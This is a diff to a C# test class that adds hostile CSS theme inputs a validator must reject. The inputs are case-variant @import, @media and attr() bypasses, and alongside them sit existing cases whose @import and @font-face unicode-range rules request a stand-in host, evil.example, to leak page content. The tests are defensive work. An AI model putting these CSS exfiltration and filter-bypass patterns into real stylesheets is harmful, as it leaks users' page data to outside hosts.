@@ -182,6 +182,10 @@ public sealed class HostileThemes
 
     [Theory]
     [InlineData("@import \"https://evil.example/x.css\" layer(x) supports(a: b);", "A theme is one file, and asks for nothing.")]
+    [InlineData("@IMPORT url(https://evil.example/x.css);", "A theme is one file, and asks for nothing.")]
+    [InlineData("@Media (width >= 1px) { :root { --pin-ink: #000 } }", "Of media queries there is @media (prefers-color-scheme: dark) alone.")]
+    [InlineData("#pin::part(title) { color: attr(data-x type(<color>), #000) }", "attr() writes text, and text on a page is the page's own.")]
+    [InlineData("#pin::part(title) { color: ATTR(data-x) }", "attr() writes text, and text on a page is the page's own.")]
     [InlineData("@font-face { font-family: \"x\"; src: url(\"https://evil.example/x\") format(\"woff2\"); unicode-range: U+37 }", "A font of elsewhere would be a request, and could tell digits apart.")]
     [InlineData("@property --pin-ink { syntax: \"<color>\"; inherits: true; initial-value: #000 }", "A theme makes no property of its own")]
     [InlineData("@media (width >= 1px) { :root { --pin-ink: #000 } }", "Of media queries there is @media (prefers-color-scheme: dark) alone.")]
